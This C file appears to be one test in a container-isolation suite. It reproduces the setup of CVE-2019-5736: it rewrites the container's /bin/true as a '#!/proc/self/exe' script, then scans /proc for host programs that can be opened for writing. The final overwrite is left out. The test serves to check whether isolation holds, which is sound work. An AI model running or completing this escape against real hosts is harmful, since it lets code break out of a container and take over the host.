// attack: a service makes its commands scripts of /proc/self/exe, so that who is sent into the box executes its own program, and opens that for writing
// class: CVE-2019-5736
// row: X7, X9
// exec: 3
// as: service
#include "attack.h"
#include <dirent.h>

/* What may be opened for writing but for its running (ETXTBSY), can be written to afterwards. Nothing is written here. */
static bool writable(const char *path) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    int why = errno;
    if (fd >= 0) close(fd);
    errno = why;
    return fd >= 0 || errno == ETXTBSY;
}

static bool names(const char *link, const char *expected) {
    char target[300];
    ssize_t length = readlink(link, target, sizeof target - 1);
    if (length <= 0) return false;
    target[length] = '\0';
    return strcmp(target, expected) == 0;
}

int main(void) {
    char path[64], target[300], own[300] = "";
    int came = 0;
    bool got = false;
    if (readlink("/proc/self/exe", own, sizeof own - 1) < 0) info("its own program has no name");
    if (getenv("ATTACK_LOOK") == NULL) {
        unlink("/bin/true");
        int script = open("/bin/true", O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0755);
        if (script < 0 || write(script, "#!/proc/self/exe\n", 17) != 17) info("the image's commands cannot be changed");
        close(script);
    }
    say(writable("/proc/1/exe"), "the program of process 1");
    while (access("/tmp/stop", F_OK) != 0) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(processes)) != NULL;) {
            int pid = atoi(entry->d_name);
            if (pid <= 1) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t length = readlink(path, target, sizeof target - 1);
            if (length <= 0) continue;
            target[length] = '\0';
            // what lies in the image is the machine's own; this program is the payload's
            if (strncmp(target, "/bin/", 5) == 0 || strcmp(target, own) == 0) continue;
            came++;
            // a process that has executed a program of the image meanwhile shows that one
            if (!got && writable(path) && names(path, target)) {
                survived("a program of the node's is open for writing: %s", target);
                got = true;
            }
        }
        closedir(processes);
    }
    info("a program of the node's was seen %d times", came);
    if (!got) held("no program of the node's is open for writing");
    return 0;
}
